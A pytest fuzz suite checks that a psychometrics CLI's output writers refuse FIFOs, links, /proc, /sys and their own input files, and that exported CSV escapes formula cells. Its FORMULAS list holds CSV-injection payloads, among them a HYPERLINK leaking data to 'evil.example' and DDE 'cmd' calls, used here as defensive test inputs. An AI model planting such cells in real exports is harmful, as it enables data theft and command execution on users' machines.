"""Fuzz suite, writers: every command that writes an output, given a target it must refuse.

Each case is one (command, bad target) pair run through the real command line in-process
(``psymetrics_core.cli.main``): it must exit 1 with one error line that names the target and
what was expected, no traceback, and leave the target as it was (a FIFO stays a FIFO, a run's
``results.json`` keeps its bytes, the response cache keeps its database) with no temporary file
beside it. The targets are made in ``tmp_path`` (a private FIFO, folders, links); ``/proc`` and
``/sys`` are named but the writer must refuse them before opening anything there. No real
device node is touched.

File writers: report, export scores, export samples, plan, cache export, projective-analyze
--json. Folder writers: analyze --output, validity --output, import psychobench --output,
export lm-eval --output. Plus three concurrent exports to one file, and formula cells in
exported CSV (the OWASP CSV-injection rule).
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from cases_plugins import BASE_PB
from harness import shared_session
from test_fuzz_rundirs import _Scripted

RUN_FILES = ("results.json", "samples.jsonl")
HANG_BOUND = 60  # seconds; a writer that opens a FIFO with no reader blocks for ever


class Hung(BaseException):
    """Raised by the alarm: not an OSError, so no handler can mistake it for a clean error."""


@pytest.fixture(autouse=True)
def _no_hang() -> Iterator[None]:
    def stop(_signum: int, _frame: Any) -> None:
        raise Hung(f"the command hung for {HANG_BOUND} s (a FIFO opened for writing?)")

    old = signal.signal(signal.SIGALRM, stop)
    signal.alarm(HANG_BOUND)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


@pytest.fixture(scope="module")
def base_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from psymetrics_core import evaluate

    out = tmp_path_factory.mktemp("writers") / "run"
    evaluate(["bfi"], backend=_Scripted([2, 4]), limit=2, output=out)
    return out


@pytest.fixture
def run(base_run: Path, tmp_path: Path) -> Path:
    """A private copy of the run (a case may try to overwrite its records)."""
    copy = tmp_path / "run"
    shutil.copytree(base_run, copy)
    return copy


@pytest.fixture
def cache_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A response cache of this test's own, holding one response."""
    from psymetrics_core.backends.cache import ResponseCache, cache_path
    from psymetrics_core.base.types import Completion

    folder = tmp_path / "cache"
    monkeypatch.setenv("PSYM_CACHE_DIR", str(folder))
    cache = ResponseCache()
    cache.put("a" * 64, "stub", "generate", Completion(text="4"))
    cache.close()
    assert cache_path().is_file()
    return folder


# -- targets -----


@dataclass
class Target:
    """A bad target: the argument given, what the line must contain, and a check that the
    thing at the target was left as it was."""

    arg: str
    expect: str
    names: str
    intact: Callable[[], None] = lambda: None


def _snapshot(path: Path) -> Callable[[], None]:
    before = os.lstat(path)
    data = path.read_bytes() if stat.S_ISREG(before.st_mode) else None

    def check() -> None:
        after = os.lstat(path)
        assert (after.st_mode, after.st_ino) == (before.st_mode, before.st_ino), path
        if data is not None:
            assert path.read_bytes() == data, f"{path} was changed"

    return check


def _file_target(kind: str, tmp: Path, run: Path) -> Target:  # noqa: PLR0911 -- one per kind
    fifo = tmp / "out.fifo"
    if kind in ("fifo", "link-to-fifo"):
        os.mkfifo(fifo)
    if kind == "fifo":
        return Target(
            str(fifo),
            "is a FIFO (named pipe); expected a regular file",
            "out.fifo",
            _snapshot(fifo),
        )
    if kind == "link-to-fifo":
        link = tmp / "out.link"
        link.symlink_to(fifo)
        return Target(str(link), "is a symbolic link to a FIFO", "out.link", _snapshot(fifo))
    if kind == "folder":
        (tmp / "out.d").mkdir()
        return Target(
            str(tmp / "out.d"),
            "is a folder; expected a regular file",
            "out.d",
            _snapshot(tmp / "out.d"),
        )
    if kind == "empty":
        return Target("", "'': an empty path; expected a file name", "''")
    if kind == "long-name":
        return Target(str(tmp / ("n" * 300)), "the file name is 300 bytes long", "nnnnnnnn")
    if kind == "parent-is-file":
        (tmp / "plain").write_text("x")
        return Target(
            str(tmp / "plain" / "out"), "is a file, not a folder", "plain", _snapshot(tmp / "plain")
        )
    if kind == "missing-parent":
        return Target(str(tmp / "nowhere" / "out"), "does not exist", "nowhere")
    if kind == "proc-new":
        return Target("/proc/self/psym-out", "is under /proc (a kernel file system)", "/proc")
    if kind == "proc-environ":
        return Target("/proc/self/environ", "is under /proc (a kernel file system)", "/proc")
    if kind == "sys":
        return Target("/sys/psym-out", "is under /sys (a kernel file system)", "/sys")
    if kind in ("own-results", "own-samples"):
        f = run / RUN_FILES[kind == "own-samples"]
        return Target(str(f), "is one of this command's inputs", f.name, _snapshot(f))
    if kind == "hardlink-to-results":
        link = tmp / "copy.json"
        os.link(run / "results.json", link)
        return Target(
            str(link),
            "is one of this command's inputs",
            "results.json",
            _snapshot(run / "results.json"),
        )
    raise AssertionError(kind)


def _cache_db_target(kind: str, cache: Path) -> Target:
    db = cache / "responses.sqlite3"
    if kind == "cache-db":
        return Target(
            str(db), "is one of this command's inputs", "responses.sqlite3", _snapshot(db)
        )
    link = cache / "export.jsonl"
    link.symlink_to(db)
    return Target(str(link), "is one of this command's inputs", "responses.sqlite3", _snapshot(db))


COMMON = [
    "fifo",
    "link-to-fifo",
    "folder",
    "empty",
    "long-name",
    "parent-is-file",
    "proc-new",
    "proc-environ",
    "sys",
]
RUN_READERS = ["own-results", "own-samples", "hardlink-to-results"]

FILE_WRITERS: dict[str, Callable[[Path, str], list[str]]] = {
    "report": lambda run, t: ["report", str(run), "--output", t],
    "export-scores": lambda run, t: ["export", "scores", str(run), "--output", t],
    "export-samples": lambda run, t: ["export", "samples", str(run), "--output", t],
    "plan": lambda run, t: [
        "plan",
        "--tasks",
        "bfi",
        "--model",
        "openai-chat",
        "--model-args",
        "base_url=http://127.0.0.1:9/v1,model=stub",
        "--output",
        t,
    ],
    "cache-export": lambda run, t: ["cache", "export", t],
    "projective-json": lambda run, t: ["projective-analyze", str(run), "--json", t],
}
MAKES_PARENTS = {"report", "export-scores", "export-samples", "plan"}

FILE_CASES = [
    (cmd, kind)
    for cmd in FILE_WRITERS
    for kind in [
        *COMMON,
        "missing-parent",
        *(
            RUN_READERS
            if cmd in ("report", "export-scores", "export-samples", "projective-json")
            else []
        ),
        *(["cache-db", "link-to-cache-db"] if cmd == "cache-export" else []),
    ]
]


def _error_line(argv: list[str], capsys: pytest.CaptureFixture[str]) -> str:
    """Run ``psym argv`` in-process; its one error line (exit 1, no traceback)."""
    from psymetrics_core.cli import main

    with pytest.raises(SystemExit) as exc:
        main(argv, session=shared_session())
    captured = capsys.readouterr()
    text = captured.err + captured.out
    assert exc.value.code == 1, text
    assert "Traceback" not in text, text
    lines = [x for x in captured.err.strip().splitlines() if x.strip()]
    assert len(lines) == 1, captured.err
    assert lines[0].startswith(("psym: error: ", "Error: ")), lines[0]
    return lines[0]


def _no_leftovers(*folders: Path) -> None:
    for folder in folders:
        if folder.is_dir():
            tmp = [p.name for p in folder.iterdir() if p.name.endswith(".tmp")]
            assert not tmp, f"temporary files left in {folder}: {tmp}"


@pytest.mark.parametrize("command, kind", FILE_CASES, ids=[f"{c}-{k}" for c, k in FILE_CASES])
def test_fuzz_file_writer(
    run: Path,
    cache_dir: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    command: str,
    kind: str,
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    if kind in ("cache-db", "link-to-cache-db"):
        target = _cache_db_target(kind, cache_dir)
    else:
        target = _file_target(kind, out, run)
    argv = FILE_WRITERS[command](run, target.arg)
    if kind == "missing-parent" and command in MAKES_PARENTS:  # kept: the folder is created
        from psymetrics_core.cli import main

        main(argv, session=shared_session())
        assert Path(target.arg).is_file() and Path(target.arg).stat().st_size > 0
        return
    line = _error_line(argv, capsys)
    assert target.expect in line and target.names in line, line
    target.intact()
    _no_leftovers(out, run, cache_dir)


# -- folder writers -----

DIR_WRITERS: dict[str, Callable[[Path, Path, str], list[str]]] = {
    "analyze": lambda run, pb, t: ["analyze", str(run), "--output", t],
    "validity": lambda run, pb, t: ["validity", str(run), "--output", t],
    "import-psychobench": lambda run, pb, t: ["import", "psychobench", str(pb), "--output", t],
    "export-lm-eval": lambda run, pb, t: ["export", "lm-eval", "--tasks", "bfi", "--output", t],
}


def _dir_target(kind: str, tmp: Path, run: Path, command: str) -> Target:
    if kind == "regular-file":
        (tmp / "plain").write_text("x")
        return Target(
            str(tmp / "plain"), "is a file; expected a folder", "plain", _snapshot(tmp / "plain")
        )
    if kind == "fifo":
        os.mkfifo(tmp / "out.fifo")
        return Target(
            str(tmp / "out.fifo"),
            "is a FIFO (named pipe); expected a folder",
            "out.fifo",
            _snapshot(tmp / "out.fifo"),
        )
    if kind == "link-to-fifo":
        os.mkfifo(tmp / "out.fifo")
        (tmp / "out.link").symlink_to(tmp / "out.fifo")
        return Target(
            str(tmp / "out.link"),
            "is a FIFO (named pipe); expected a folder",
            "out.link",
            _snapshot(tmp / "out.fifo"),
        )
    if kind == "empty":
        return Target("", "'': an empty path; expected a folder", "''")
    if kind == "long-name":
        return Target(str(tmp / ("d" * 300)), "a folder name is 300 bytes long", "ddddddd")
    if kind == "parent-is-file":
        (tmp / "plain").write_text("x")
        return Target(
            str(tmp / "plain" / "sub"), "is a file, not a folder", "plain", _snapshot(tmp / "plain")
        )
    if kind == "proc":
        return Target("/proc/self/psym-out", "is under /proc (a kernel file system)", "/proc")
    if kind == "sys":
        return Target("/sys/psym-out", "is under /sys (a kernel file system)", "/sys")
    if kind == "own-results":  # refused as an input where the command reads the run
        f = run / "results.json"
        reads = command in ("analyze", "validity")
        expect = "is one of this command's inputs" if reads else "is a file; expected a folder"
        return Target(str(f), expect, "results.json", _snapshot(f))
    raise AssertionError(kind)


DIR_KINDS = [
    "regular-file",
    "fifo",
    "link-to-fifo",
    "empty",
    "long-name",
    "parent-is-file",
    "proc",
    "sys",
    "own-results",
]
DIR_CASES = [(cmd, kind) for cmd in DIR_WRITERS for kind in DIR_KINDS]


@pytest.mark.parametrize("command, kind", DIR_CASES, ids=[f"{c}-{k}" for c, k in DIR_CASES])
def test_fuzz_folder_writer(
    run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str, kind: str
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    pb = tmp_path / "pb.json"
    pb.write_text(json.dumps([BASE_PB]))
    target = _dir_target(kind, out, run, command)
    line = _error_line(DIR_WRITERS[command](run, pb, target.arg), capsys)
    assert target.expect in line and target.names in line, line
    target.intact()
    _no_leftovers(out, run)


# -- concurrency and CSV cells -----


def test_fuzz_three_concurrent_exports_end_in_one_valid_file(run: Path, tmp_path: Path) -> None:
    """Three ``psym export samples`` at once onto one file: all succeed (each writes its own
    temporary file), the file is one whole CSV and no temporary file is left."""
    out = tmp_path / "same.csv"
    env = {**os.environ, "PSYM_CACHE_DIR": str(tmp_path / "cache")}
    procs = [
        subprocess.Popen(
            [
                sys.executable,
                "-m",
                "psymetrics_core",
                "export",
                "samples",
                str(run),
                "-o",
                str(out),
            ],
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for _ in range(3)
    ]
    for p in procs:
        _, err = p.communicate(timeout=300)
        assert p.returncode == 0 and "Traceback" not in err, err
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == 2 and rows[0]["task"] == "bfi"
    assert not [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


FORMULAS = [
    ("hyperlink", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("plus-cmd", "+cmd|' /C calc'!A0"),
    ("minus-cmd", "-2+3+cmd|' /C calc'!A0"),
    ("at-sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("tab-formula", "\t=1+1"),
    ("cr-formula", "\r=1+1"),
]


@pytest.mark.parametrize("name, cell", FORMULAS, ids=[f[0] for f in FORMULAS])
def test_fuzz_export_csv_formula_cells(run: Path, tmp_path: Path, name: str, cell: str) -> None:
    """A completion a spreadsheet would run goes out with a leading apostrophe; a negative
    number elsewhere in the table stays a number."""
    from psymetrics_core.export.tidy import export_table

    samples = run / "samples.jsonl"
    lines = [json.loads(x) for x in samples.read_text(encoding="utf-8").splitlines()]
    lines[0]["completion"] = cell
    lines[1]["completion"] = "-1.5"
    samples.write_text("".join(json.dumps(x) + "\n" for x in lines), encoding="utf-8")
    out = tmp_path / "s.csv"
    export_table("samples", [run], "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    assert rows[0]["completion"] == "'" + cell
    assert rows[1]["completion"] == "-1.5"
    parquet = tmp_path / "s.parquet"  # parquet is not for spreadsheets: kept as it was
    export_table("samples", [run], "parquet", parquet)
    import polars as pl

    assert pl.read_parquet(parquet)["completion"][0] == cell
